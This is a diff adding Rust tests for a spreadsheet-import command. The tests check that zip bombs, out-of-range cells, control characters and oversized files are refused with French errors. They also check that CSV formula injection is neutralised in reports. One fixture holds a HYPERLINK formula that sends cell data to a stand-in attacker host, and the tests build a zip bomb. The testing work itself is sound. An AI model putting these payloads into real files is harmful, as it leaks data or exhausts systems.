@@ -591,3 +591,119 @@ fn report_and_import_have_help() {
         assert!(text.contains(flag), "{flag} in {text}");
     }
 }
+
+/// Runs `almanach import` on `bytes` and returns its standard error,
+/// checking it failed and wrote nothing.
+fn refused(db: &str, name: &str, bytes: &[u8], extra: &[&str]) -> String {
+    let path = temp_file(name, bytes);
+    let mut args = extra.to_vec();
+    args.extend_from_slice(&["import", &path]);
+    let out = almanach(db, &args);
+    let err = String::from_utf8(out.stderr).unwrap();
+    assert!(!out.status.success(), "{name}: {err}");
+    assert!(
+        err.contains("almanach: error: 1 erreur(s)") && err.contains("rien n'a été importé"),
+        "{name}: {err}"
+    );
+    assert_eq!(
+        report(db, &["--year", "2024"])["total"]["sessions"],
+        0,
+        "{name}: nothing written"
+    );
+    err
+}
+
+#[test]
+fn hostile_files_are_refused_in_french_and_the_command_survives() {
+    use almanach_domain::import::build;
+    let db = sqlite();
+    let far = build::zip(&build::parts(&build::sheet(
+        None,
+        &[("A1", "date"), ("XFD1048576", "x")],
+    )));
+    let err = refused(&db, "loin.xlsx", &far, &[]);
+    assert!(
+        err.contains("fichier refusé\u{a0}: la cellule XFD1048576 est remplie"),
+        "{err}"
+    );
+    let parts = build::parts(&build::sheet(None, &[("A1", "date")]));
+    let bomb = build::zip_with_bomb(&parts, "xl/worksheets/sheet1.xml", 560 << 20, 560 << 20);
+    let err = refused(&db, "bombe.xlsx", &bomb, &[]);
+    assert!(
+        err.contains("classeur trop volumineux une fois décompressé (plus de 50\u{a0}Mo)"),
+        "{err}"
+    );
+    let mut ole = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
+    ole.resize(2048, 0);
+    let err = refused(&db, "vieux.xls", &ole, &[]);
+    assert!(err.contains("Excel 97-2003 (.xls)"), "{err}");
+    let err = refused(
+        &db,
+        "nul.csv",
+        b"date;cycle;type;participants\n13/01/2024;Sam\x00edis;atelier;3\n",
+        &[],
+    );
+    assert!(
+        err.contains("ligne 2, colonne «\u{a0}cycle\u{a0}»\u{a0}: caractère de contrôle interdit"),
+        "{err}"
+    );
+    // The limits are settings: flags, environment or the configuration file.
+    let csv = "date;cycle;type;participants\n13/01/2024;Samedis;atelier;3\n14/01/2024;Samedis;atelier;4\n";
+    let err = refused(
+        &db,
+        "lignes.csv",
+        csv.as_bytes(),
+        &["--import-max-rows", "2"],
+    );
+    assert!(
+        err.contains("fichier refusé à la ligne 3\u{a0}: plus de 2 lignes"),
+        "{err}"
+    );
+    let big = vec![b'a'; (1 << 20) + 1];
+    let err = refused(&db, "gros.csv", &big, &["--import-max-file-mb", "1"]);
+    assert!(
+        err.contains("fichier trop volumineux (1,0\u{a0}Mo)\u{a0}: 1\u{a0}Mo au plus"),
+        "{err}"
+    );
+    let bad = almanach(&db, &["--import-max-unpacked-mb", "0", "import", "x.csv"]);
+    assert!(
+        String::from_utf8_lossy(&bad.stderr)
+            .contains("import_max_unpacked_mb must be between 1 and 4096")
+    );
+    // Within the limits, a workbook built the same way imports.
+    let ok_book = build::table(&[
+        &["Date", "Cycle", "Type", "Participants"],
+        &["13/01/2024", "Samedis", "atelier", "19"],
+    ]);
+    let out = ok(almanach(&db, &["import", &temp_file("ok.xlsx", &ok_book)]));
+    assert!(out.contains("séances : 1"), "{out}");
+}
+
+#[test]
+fn the_report_csv_neutralises_a_hostile_series_and_keeps_numbers() {
+    let db = sqlite();
+    let csv = "date;cycle;type;thématique;participants;moins de 14 ans;coût\n\
+               16/11/2024;\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Voir\"\")\";atelier;\"@SUM(A1)\";19;2;150,50\n\
+               17/11/2024;-12;rencontre;;73;;\n";
+    ok(almanach(
+        &db,
+        &["import", &temp_file("hostile.csv", csv.as_bytes())],
+    ));
+    let out = ok(almanach(
+        &db,
+        &["report", "--season", "2024-2025", "--format", "csv"],
+    ));
+    let lines: Vec<&str> = out.trim_start_matches('\u{feff}').split("\r\n").collect();
+    assert!(
+        lines.iter().any(|l| l.starts_with(
+            "2024-2025;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Voir\"\")\";1;1;0;1;0;19;2;0;;19,00;1;1;1;150,50;7,92"
+        )),
+        "{out}"
+    );
+    assert!(
+        lines
+            .iter()
+            .any(|l| l.starts_with("2024-2025;\"'-12\";1;1;1;0;0;73;0;0;73,00;")),
+        "{out}"
+    );
+}
